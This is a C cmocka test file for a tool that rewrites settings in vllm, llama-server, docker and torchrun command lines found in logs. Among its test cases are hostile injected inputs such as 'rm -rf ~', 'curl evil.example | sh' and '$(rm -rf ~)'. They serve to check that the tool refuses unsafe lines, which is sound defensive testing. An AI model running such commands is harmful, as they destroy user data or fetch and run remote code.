/* The user's command line with settings changed, as a table: what stands in a
 * log, where in it the program was found, the setting, and what a person may
 * run. Where that is the setting alone, the log's line is no plain command, and
 * nothing of it is handed on. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "diagnose/work.h"

static struct arena arena;

static struct str tp_names[] = {{"-tp", 3}};
static struct str ctx_names[] = {{"-c", 2}, {"--ctx-size", 10}};
static struct flag flags[] = {
    {.flag = {"--max-model-len", 15}},
    {.flag = {"--tensor-parallel-size", 22}, .aliases = {tp_names, 1}},
    {.flag = {"--context-length", 16}, .aliases = {ctx_names, 2}},
};
static const struct engine engine = {.flags = flags, .flag_count = 3};

static int open_arena(void **state) {
    (void)state;
    arena_init(&arena, NULL, 0);
    return 0;
}

static int close_arena(void **state) {
    (void)state;
    arena_free(&arena);
    return 0;
}

struct row {
    const char *line;    /* of the log */
    const char *program; /* the pattern found it here; NULL: the line begins */
    const char *setting;
    const char *right; /* the command; NULL: the setting alone */
};

#define LEN "--max-model-len 4"
#define ALONE NULL

static const struct row rows[] = {
    /* ---- the program alone ---- */
    {"vllm serve m/x --port 8000", "vllm", LEN,
     "vllm serve m/x --port 8000 --max-model-len 4"},
    {"$ vllm serve m/x --port 8000", "vllm", LEN,
     "vllm serve m/x --port 8000 --max-model-len 4"},
    {"ann@node7:~/run$ vllm serve m/x", "vllm", LEN,
     "vllm serve m/x --max-model-len 4"},
    {"+ /opt/venv/bin/vllm serve m/x", "vllm", LEN,
     "/opt/venv/bin/vllm serve m/x --max-model-len 4"},
    {"vllm serve", "vllm", LEN, "vllm serve --max-model-len 4"},
    {"", NULL, LEN, ALONE},

    /* ---- an existing value ---- */
    {"vllm serve m --max-model-len 131072 --port 8000", "vllm", LEN,
     "vllm serve m --max-model-len 4 --port 8000"},
    {"vllm serve m --max-model-len=131072", "vllm", LEN,
     "vllm serve m --max-model-len=4"},
    {"vllm serve m --max-model-len='9'", "vllm", LEN,
     "vllm serve m --max-model-len='4'"},
    {"vllm serve m \"--max-model-len=9\"", "vllm", LEN,
     "vllm serve m \"--max-model-len=4\""},
    {"vllm serve 'my --max-model-len m' --max-model-len \"9\"", "vllm", LEN,
     "vllm serve 'my --max-model-len m' --max-model-len \"4\""},
    {"vllm serve m --max_model_len 9 --x 1", "vllm", LEN,
     "vllm serve m --max_model_len 4 --x 1"},
    {"vllm serve m --max-model-len 9 --max-model-len 8", "vllm", LEN,
     "vllm serve m --max-model-len 4 --max-model-len 4"},
    {"vllm serve m -tp 1", "vllm", "--tensor-parallel-size 2",
     "vllm serve m -tp 2"},
    {"vllm serve m -tp=1", "vllm", "--tensor-parallel-size 2",
     "vllm serve m -tp=2"},
    {"llama-server -m a.gguf -c 8192 -ngl 99", "llama", "--ctx-size 4096",
     "llama-server -m a.gguf -c 4096 -ngl 99"},
    {"vllm serve m --offset -1 --port 2", "vllm", "--offset 7",
     "vllm serve m --offset 7 --port 2"},
    {"vllm serve m --max-model-len --port 8000", "vllm", LEN,
     "vllm serve m --max-model-len 4 --port 8000"},
    {"vllm serve m --max-model-len", "vllm", LEN,
     "vllm serve m --max-model-len 4"},
    {"vllm serve m --limit image=4 video=1 --port 1", "vllm",
     "--limit image=1 video=0", "vllm serve m --limit image=1 video=0 --port 1"},
    {"vllm serve m --conf '{\"level\": 3}' --port 1", "vllm",
     "--conf '{\"level\": 0}'", "vllm serve m --conf '{\"level\": 0}' --port 1"},

    /* ---- switches ---- */
    {"vllm serve m", "vllm", "--enforce-eager",
     "vllm serve m --enforce-eager"},
    {"vllm serve m --enforce-eager", "vllm", "--enforce-eager",
     "vllm serve m --enforce-eager"},
    {"vllm serve m --enable-prefix-caching -x", "vllm",
     "--no-enable-prefix-caching", "vllm serve m --no-enable-prefix-caching -x"},
    {"vllm serve m --no-chunked", "vllm", "--chunked", "vllm serve m --chunked"},

    /* ---- redirections, pipes, jobs and comments ---- */
    {"vllm serve m/x --port 8000 2>&1 | tee vllm.log", "vllm", LEN,
     "vllm serve m/x --port 8000 --max-model-len 4 2>&1 | tee vllm.log"},
    {"vllm serve m/x |& tee -a vllm.log", "vllm", LEN,
     "vllm serve m/x --max-model-len 4 |& tee -a vllm.log"},
    {"nohup vllm serve m/x --port 8000 > vllm.log 2>&1 &", "vllm", LEN,
     "nohup vllm serve m/x --port 8000 --max-model-len 4 > vllm.log 2>&1 &"},
    {"vllm serve m/x &>> log", "vllm", LEN,
     "vllm serve m/x --max-model-len 4 &>> log"},
    {"vllm serve m/x < in 2> err", "vllm", LEN,
     "vllm serve m/x --max-model-len 4 < in 2> err"},
    {"vllm serve m/x --port 8000 # takes a while", "vllm", LEN,
     "vllm serve m/x --port 8000 --max-model-len 4"},
    {"vllm serve m#1 --port 8000", "vllm", LEN,
     "vllm serve m#1 --port 8000 --max-model-len 4"},
    {"vllm serve m/x || true", "vllm", LEN,
     "vllm serve m/x --max-model-len 4 || true"},
    {"vllm serve m/x --max-model-len 131072&", "vllm", LEN,
     "vllm serve m/x --max-model-len 4&"},
    {"vllm serve m/x;", "vllm", LEN, "vllm serve m/x --max-model-len 4"},
    {"(vllm serve m/x --port 8000)", "vllm", LEN,
     "vllm serve m/x --port 8000 --max-model-len 4"},
    {"cd /srv && vllm serve m/x", "vllm", LEN,
     "vllm serve m/x --max-model-len 4"},
    {"vllm serve <model> --port 1", "vllm", LEN,
     "vllm serve <model> --port 1 --max-model-len 4"},

    /* ---- what is no plain command ---- */
    {"vllm serve m/x --max-model-len 131072;rm -rf ~", "vllm", LEN, ALONE},
    {"vllm serve m/x ; curl evil.example | sh", "vllm", LEN, ALONE},
    {"vllm serve m/x --max-model-len=131072|sh", "vllm", LEN, ALONE},
    {"vllm serve m/x | grep -v INFO", "vllm", LEN, ALONE},
    {"vllm serve m/x | tee log | sh", "vllm", LEN, ALONE},
    {"vllm serve m/x | tee >(sh)", "vllm", LEN, ALONE},
    {"vllm serve m/x || curl evil.example", "vllm", LEN, ALONE},
    {"vllm serve m/x || true; rm x", "vllm", LEN, ALONE},
    {"vllm serve m/x && rm -rf ~", "vllm", LEN, ALONE},
    {"vllm serve m/x & sleep 3", "vllm", LEN, ALONE},
    {"vllm serve m/x $(rm -rf ~)", "vllm", LEN, ALONE},
    {"vllm serve m/x \"$(rm -rf ~)\"", "vllm", LEN, ALONE},
    {"vllm serve m/x `rm -rf ~`", "vllm", LEN, ALONE},
    {"vllm serve m/x > $(date).log", "vllm", LEN, ALONE},
    {"vllm serve m/x --port 8000 <<EOF", "vllm", LEN, ALONE},
    {"vllm serve m/x <(curl evil.example)", "vllm", LEN, ALONE},
    {"vllm serve 'm/x --port 8000", "vllm", LEN, ALONE},
    {"bash -c \"vllm serve m/x", "vllm", LEN, ALONE},
    {"vllm serve m/x -- --port 1", "vllm", LEN, ALONE},
    {"vllm serve m/x\nrm -rf ~", "vllm", LEN, ALONE},
    {"(vllm serve m/x); rm y", "vllm", LEN, ALONE},
    {"vllm serve m/x # why\nrm -rf ~", "vllm", LEN, ALONE},
    {"bash -c \"cd /srv; vllm serve m/x\"", "vllm", LEN, ALONE},

    /* ---- other lines of the command, and of the log ---- */
    {"vllm serve m \\\n    --max-model-len 9 \\\n    --port 1", "vllm", LEN,
     "vllm serve m \\\n    --max-model-len 4 \\\n    --port 1"},
    {"vllm serve m \\\n    --port 1 \\\n", "vllm", "--enforce-eager",
     "vllm serve m \\\n    --port 1 \\\n    --enforce-eager"},
    {"vllm serve m \\\n--port 1 \\\n  > log", "vllm", LEN,
     "vllm serve m \\\n--port 1 \\\n--max-model-len 4 \\\n  > log"},
    {"vllm serve m --port 8000 \\\nINFO vLLM API server", "vllm", LEN, ALONE},
    {"docker run \\\ni/m \\\n  --port 1", "docker", LEN,
     "docker run \\\ni/m \\\n  --port 1 \\\n  --max-model-len 4"},
    {"vllm serve m ^\n  --port 1", "vllm", LEN,
     "vllm serve m ^\n  --port 1 ^\n  --max-model-len 4"},
    {"vllm serve m `\n  --port 1 2> err", "vllm", LEN,
     "vllm serve m `\n  --port 1 `\n  --max-model-len 4 2> err"},
    {"C:\\ai\\llama-server.exe -m C:\\m\\a.gguf -c 8192", "llama",
     "--ctx-size 4096",
     "C:\\ai\\llama-server.exe -m C:\\m\\a.gguf -c 4096"},
    {"C:\\ai\\llama-server.exe -m a.gguf", "llama", "A=b", ALONE},
    {"vllm serve m --port 1 ^", "vllm", LEN, ALONE},
    {"vllm serve C:\\m `rm -rf ~`", "vllm", LEN, ALONE},
    {"vllm serve C:\\m ^; rm -rf ~", "vllm", LEN, ALONE},
    {"vllm serve m `\n  --port `; rm x", "vllm", LEN, ALONE},
    {"vllm serve m --port 1 `", "vllm", LEN, ALONE},

    /* ---- who runs it ---- */
    {"CUDA_VISIBLE_DEVICES=0 python train.py", "python", "--batch-size 2",
     "CUDA_VISIBLE_DEVICES=0 python train.py --batch-size 2"},
    {"env A=b python -u train.py --lr 1", "python", "--lr 2",
     "env A=b python -u train.py --lr 2"},
    {"time sudo -E vllm serve m", "vllm", LEN,
     "time sudo -E vllm serve m --max-model-len 4"},
    {"srun -n 8 --mem 100G python train.py -n 3", "python", "-n 2",
     "srun -n 8 --mem 100G python train.py -n 2"},
    {"srun --mem=100G python train.py", "python", "--mem 200G",
     "srun --mem=200G python train.py"},
    {"python train.py", "python", "--mem 200G", ALONE},
    {"torchrun --nproc_per_node 8 train.py --bs 4", "torchrun", "--bs 2",
     "torchrun --nproc_per_node 8 train.py --bs 2"},
    {"torchrun --nproc_per_node 8 train.py --bs 4", "torchrun",
     "--nproc-per-node 4", "torchrun --nproc_per_node 4 train.py --bs 4"},
    {"python3 -m vllm.entrypoints.openai.api_server --model m > log",
     "python3", LEN,
     "python3 -m vllm.entrypoints.openai.api_server --model m "
     "--max-model-len 4 > log"},
    {"bash -c \"vllm serve m/x --port 8000\"", "vllm", LEN,
     "bash -c \"vllm serve m/x --port 8000 --max-model-len 4\""},
    {"nohup sh -c 'exec vllm serve m' > log &", "vllm", LEN,
     "nohup sh -c 'exec vllm serve m --max-model-len 4' > log &"},
    {"bash -c \"vllm serve m | tee log\"", "vllm", LEN,
     "bash -c \"vllm serve m --max-model-len 4 | tee log\""},
    {"bash -c \"vllm serve m; rm x\"", "vllm", LEN, ALONE},
    {"bash -c \"vllm serve m\" ; rm x", "vllm", LEN, ALONE},
    {"bash -c \"vllm serve m\"", "vllm", "--conf '{\"a\": 1}'", ALONE},
    {"{\"cmd\": \"vllm serve m --port 1\", \"pid\": 12}", "vllm", LEN,
     "vllm serve m --port 1 --max-model-len 4"},
    {"we ran `vllm serve m --port 1` and it failed", "vllm", LEN,
     "vllm serve m --port 1 --max-model-len 4"},

    /* ---- containers ---- */
    {"docker run --gpus all -it vllm/vllm-openai --port 1", "docker", LEN,
     "docker run --gpus all -it vllm/vllm-openai --port 1 --max-model-len 4"},
    {"docker run -p 1:1 i/m -p 1", "docker", "-p 2",
     "docker run -p 1:1 i/m -p 2"},
    {"docker run --gpus all vllm/vllm-openai --port 1", "docker", "A=b",
     "docker run -e A=b --gpus all vllm/vllm-openai --port 1"},
    {"docker run -e A=c --env=D=e vllm/vllm-openai", "docker", "A=b",
     "docker run -e A=b --env=D=e vllm/vllm-openai"},
    {"podman container run i/m --port 1", "podman", "A=b",
     "podman container run -e A=b i/m --port 1"},
    {"docker run --shm-size 64m i/m --port 1", "docker", "--shm-size 16g",
     "docker run --shm-size 16g i/m --port 1"},
    {"docker run i/m --port 1", "docker", "--ipc=host",
     "docker run --ipc=host i/m --port 1"},
    {"python train.py", "python", "--shm-size 16g", ALONE},
    {"docker run i/m bash -c \"vllm serve m\"", "docker", LEN,
     "docker run i/m bash -c \"vllm serve m --max-model-len 4\""},
    {"vllm/vllm-openai:v1 --port 1", NULL, LEN,
     "vllm/vllm-openai:v1 --port 1 --max-model-len 4"},
    {"vllm/vllm-openai:v1 --port 1", NULL, "A=b", ALONE},

    /* ---- lists of arguments ---- */
    {"[\"vllm\", \"serve\", \"m\", \"--max-model-len\", \"9\"]", NULL, LEN,
     "[\"vllm\", \"serve\", \"m\", \"--max-model-len\", \"4\"]"},
    {"['vllm', 'serve', 'm', '--max-model-len=9']", NULL, LEN,
     "['vllm', 'serve', 'm', '--max-model-len=4']"},
    {"[\"vllm\", \"serve\", \"m\"]", NULL, LEN,
     "[\"vllm\", \"serve\", \"m\", \"--max-model-len\", \"4\"]"},
    {"[\"sh\", \"-c\", \"vllm serve m\"]", NULL, LEN, ALONE},
    {"[\"vllm\", \"serve\", \"$(rm x)\"]", NULL, LEN, ALONE},
    {"[\"vllm\", \"serve\", \"m\"]; rm x", NULL, LEN, ALONE},
    {"[\"vllm\", \"serve\", \"m\"]", NULL, "A=b", ALONE},

    /* ---- the environment, and several at once ---- */
    {"python train.py", "python", "A=b", "A=b python train.py"},
    {"A=old python train.py", "python", "A=b", "A=b python train.py"},
    {"A=\"old one\" python train.py", "python", "A=b",
     "A=\"b\" python train.py"},
    {"env A=old python train.py", "python", "A=b", "env A=b python train.py"},
    {"sudo python train.py", "python", "A=b", "sudo A=b python train.py"},
    {"nohup python train.py &", "python", "A=b", "A=b nohup python train.py &"},
    {"mpirun -np 2 python train.py", "python", "A=b", ALONE},
    {"vllm serve m -tp 1 | tee log", "vllm",
     "A=b --tensor-parallel-size 2 --max-model-len 4",
     "A=b vllm serve m -tp 2 --max-model-len 4 | tee log"},
    {"vllm serve m", "vllm", "--max-model-len 4; rm x", ALONE},
};

static struct str line_of(const struct row *row) {
    return str_of(row->line);
}

static struct str answer_of(const struct row *row) {
    struct str line = line_of(row), command = {NULL, 0};
    size_t at = row->program ? str_find(line, str_of(row->program)) : 0;
    struct str right;
    bool is_plain = command_in_line(line, at, &command) &&
                    command_with(&arena, &engine, command,
                                 str_of(row->setting), &right);
    return is_plain ? right : str_of(row->setting);
}

static void lines_of_logs(void **state) {
    (void)state;
    size_t wrong = 0;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        const char *right = rows[i].right ? rows[i].right : rows[i].setting;
        struct str got = answer_of(&rows[i]);
        if (!str_eq(got, str_of(right))) {
            print_error("%s\n  %s\n  gives   %.*s\n  and not %s\n",
                        rows[i].line, rows[i].setting, STR_ARG(got), right);
            wrong++;
        }
    }
    assert_int_equal(wrong, 0);
}

/* As its shell reads it: nothing odd, and behind an operator only what is known
 * to do no harm. */
static bool holds_one_program(struct str command) {
    struct shell sh = shell_of(command);
    struct shell_token t = shell_next(&sh, 0), next;
    for (; t.kind != SHELL_END; t = next) {
        struct str op = shell_text(&sh, &t);
        next = shell_next(&sh, t.to);
        struct str word = shell_text(&sh, &next);
        bool is_harmless =
            t.kind != SHELL_OPERATOR ||
            (str_eq(op, STR("|")) && str_eq(word, STR("tee"))) ||
            (str_eq(op, STR("||")) && str_eq(word, STR("true"))) ||
            (str_eq(op, STR("&")) && next.kind == SHELL_END);
        if (!is_harmless || t.kind == SHELL_ODD || t.kind == SHELL_CUT) {
            return false;
        }
    }
    return true;
}

static void expect_one_program(struct str line) {
    struct str command, right;
    size_t program = str_find(line, STR("vllm"));
    if (command_in_line(line, program, &command) &&
        command_with(&arena, &engine, command, STR(LEN), &right) &&
        !holds_one_program(right)) {
        fail_msg("%.*s\ngives %.*s", STR_ARG(line), STR_ARG(right));
    }
}

/* Whatever a line holds round a known command: nothing of it that could run
 * comes out, and all that is read stays inside the line. */
static void no_operator_is_handed_on(void **state) {
    (void)state;
    static const char *const pieces[] = {
        ";", "|", "&", "&&", "||", "$(x)", "`x`", "<<E", ">(x)", "<(x)",
        "(", ")", "\n", "\"", "'", "\\", "#", "x", "tee", "true", "-c", "--"};
    enum { PIECES = sizeof pieces / sizeof pieces[0] };
    for (size_t i = 0; i < (size_t)PIECES * PIECES * PIECES; i++) {
        const char *x = pieces[i % PIECES], *y = pieces[i / PIECES % PIECES],
                   *z = pieces[i / PIECES / PIECES];
        expect_one_program(
            arena_printf(&arena, "vllm serve m %s %s %s", x, y, z));
        expect_one_program(
            arena_printf(&arena, "%s %svllm serve m %s", x, y, z));
        expect_one_program(
            arena_printf(&arena, "%svllm serve m%s%s", x, y, z));
    }
}

static void a_value_is_read(void **state) {
    (void)state;
    struct str value = {NULL, 0};
    assert_true(command_value(STR("vllm serve m -tp 2"), &flags[1], &value));
    assert_true(str_eq(value, STR("2")));
    assert_true(command_value(STR("vllm serve m --tensor_parallel_size='4'"),
                              &flags[1], &value));
    assert_true(str_eq(value, STR("4")));
    assert_true(command_value(STR("[\"vllm\", \"-tp\", \"8\"]"), &flags[1],
                              &value));
    assert_true(str_eq(value, STR("8")));
    assert_false(command_value(STR("vllm serve m | x -tp 2"), &flags[1],
                               &value));
}

static void a_printed_list_is_typed(void **state) {
    (void)state;
    static const struct {
        const char *printed, *typed;
    } cases[] = {
        {"['python', '-u', 'train.py', '--lr', '1e-4']",
         "python -u train.py --lr 1e-4"},
        {"['python', 'a b.py', '--x=']", "python 'a b.py' --x="},
        {"['python', '$(x)']", ""}, /* a shell would run it */
        {"['python', 'a', ...", ""}, /* cut */
        {"[\"vllm\", \"serve\"]", "[\"vllm\", \"serve\"]"},
        {"vllm serve m", "vllm serve m"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        assert_true(str_eq(
            command_as_typed(&arena, str_of(cases[i].printed)),
            str_of(cases[i].typed)));
    }
}

static void what_follows_an_image_is_known_for_it(void **state) {
    (void)state;
    assert_true(command_is_arguments(STR("vllm/vllm-openai:v1 \\\n --x 1")));
    assert_false(command_is_arguments(STR("vllm serve org/model --x 1")));
    assert_false(command_is_arguments(STR("/usr/bin/python3 -m vllm")));
    assert_false(command_is_arguments(STR("docker run vllm/vllm-openai")));
    assert_false(command_is_image_alone(STR("i/m:v1 \\\n --x 1")));
    assert_true(command_is_image_alone(STR("i/m:v1")));
    assert_true(command_is_arguments(STR("ghcr.io/o/llama.cpp:server -c 1")));
    assert_true(command_is_arguments(STR("vllm/vllm-openai --model m")));
    assert_false(command_is_arguments(STR("build/bin/llama-server -c 1")));
    assert_false(command_is_arguments(STR("bin/llama-server -c 1")));
    assert_true(command_is_image_alone(STR("i/m:v1 from the registry")));
}

static void only_settings_stand_on_a_command_line(void **state) {
    (void)state;
    assert_true(setting_is_flag(STR("--max-model-len 4096")));
    assert_true(setting_is_flag(STR("PYTORCH_ALLOC_CONF=x:True")));
    assert_true(setting_is_flag(STR("A=b --max-model-len 4096 -x")));
    assert_false(setting_is_flag(STR("--max-model-len <max_model_len>")));
    assert_false(setting_is_flag(STR("nvidia-smi --format=csv")));
    assert_false(setting_is_flag(STR("A=b nvidia-smi")));
    assert_false(setting_is_flag(STR("sync; echo 3")));
    assert_false(setting_is_flag(STR("--x 1; echo 3")));
    assert_false(setting_is_flag(STR("--x $(echo 3)")));
    assert_false(setting_is_flag(STR("")));
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(lines_of_logs),
        cmocka_unit_test(no_operator_is_handed_on),
        cmocka_unit_test(a_value_is_read),
        cmocka_unit_test(a_printed_list_is_typed),
        cmocka_unit_test(what_follows_an_image_is_known_for_it),
        cmocka_unit_test(only_settings_stand_on_a_command_line),
    };
    return cmocka_run_group_tests(tests, open_arena, close_arena);
}
